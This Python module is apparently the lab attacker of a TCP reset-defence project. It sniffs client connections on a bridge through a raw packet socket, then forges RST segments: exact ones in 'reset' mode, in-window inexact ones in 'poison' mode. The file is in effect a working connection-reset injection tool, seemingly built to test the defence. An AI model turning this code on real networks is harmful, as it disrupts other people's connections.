"""An attacker on the wire between clients and gateway, who knows the numbers of each connection.

A program of its own, to be run on the wire: it writes ``ready``, learns the innocents' connections
from what passes, attacks each soon after it was opened, and goes on until its standard input is
closed.  At last it writes as JSON how many segments it has sent.

``reset`` sends RSTs with exact numbers, in the name of either end by turns; ``poison`` sends some
that are inside the window and not exact, in the client's name.
"""

from __future__ import annotations

import json
import math
import select
import socket
import sys
import time
from dataclasses import dataclass
from ipaddress import ip_network

from rstguard.engine.flow import Tuple
from rstguard.engine.segment import rst
from rstguard.engine.wire import ACK, FIN, RST, SYN, Packet, parse
from rstguard.lab.forging import POISON, marked
from rstguard.lab.topology import INNOCENTS

_DEVICE = "gateway"
"""The port of the bridge where the gateway is."""
_ETHERNET, _IPV4, _EVERYTHING = 14, b"\x08\x00", 0x0003
_LEARNING = 0.5
"""Seconds for which a connection is watched before it is attacked."""
_EVERY = {"reset": 0.25, "poison": math.inf}
"""Seconds between two attacks on the same connection."""
_STEP = 0.05
_INNOCENTS = range(*(int(ip_network(INNOCENTS)[at]) for at in (0, -1)))


@dataclass(slots=True)
class _Watched:
    """A connection as the wire shows it; `due` is when to attack it next (monotonic seconds).

    `ethernet` is the header of its client's frames; sequence numbers are those that come next.
    """

    path: Tuple
    ethernet: bytes
    due: float
    from_client: int = 0
    from_server: int = 0
    attacks: int = 0


class _Onlooker:
    def __init__(self, kind: str) -> None:
        self.sent = 0
        self._kind = kind
        self._watched: dict[tuple[int, int], _Watched] = {}
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.wire.bind((_DEVICE, _EVERYTHING))
        self.wire.setblocking(False)

    def learn(self) -> None:
        """Take in what has passed."""
        try:
            while True:
                frame = self.wire.recv(256)
                if frame[12:14] == _IPV4:
                    packet = parse(frame[_ETHERNET:])
                    if isinstance(packet, Packet):
                        self._see(packet, frame[:_ETHERNET])
        except BlockingIOError:
            pass

    def _see(self, packet: Packet, ethernet: bytes) -> None:
        """Take both ends' numbers from what the client says: the gateway may forge the server."""
        if packet.source not in _INNOCENTS or packet.flags & RST:
            return
        key = packet.source, packet.source_port
        if key not in self._watched:
            due = time.monotonic() + _LEARNING
            self._watched[key] = _Watched(Tuple(*packet[:4]), ethernet, due)
        seen = self._watched[key]
        follows = packet.payload_length + bool(packet.flags & (SYN | FIN))
        seen.from_client = (packet.sequence + follows) & 0xFFFFFFFF
        if packet.flags & ACK:
            seen.from_server = packet.acknowledgement

    def attack(self, now: float) -> None:
        """Attack each connection whose turn it is."""
        for number, one in enumerate(self._watched.values()):
            if one.due > now or not one.from_server:
                continue
            one.due = now + _EVERY[self._kind]
            for made in self._segments(one, (number + one.attacks) % 2 == 0):
                self.wire.send(one.ethernet + marked(made))
                self.sent += 1
            one.attacks += 1

    def _segments(self, one: _Watched, as_client: bool) -> list[bytes]:
        if self._kind == "poison":
            return [rst(one.path, (one.from_client + ahead) & 0xFFFFFFFF) for ahead in POISON]
        if as_client:
            return [rst(one.path, one.from_client)]
        (client, server, port, service) = one.path
        return [rst(Tuple(server, client, service, port), one.from_server)]


def main() -> None:
    """Attack in the way that the command line names."""
    onlooker = _Onlooker(sys.argv[1])
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while sys.stdin not in select.select([sys.stdin, onlooker.wire], [], [], _STEP)[0]:
        onlooker.learn()
        onlooker.attack(time.monotonic())
    json.dump(onlooker.sent, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
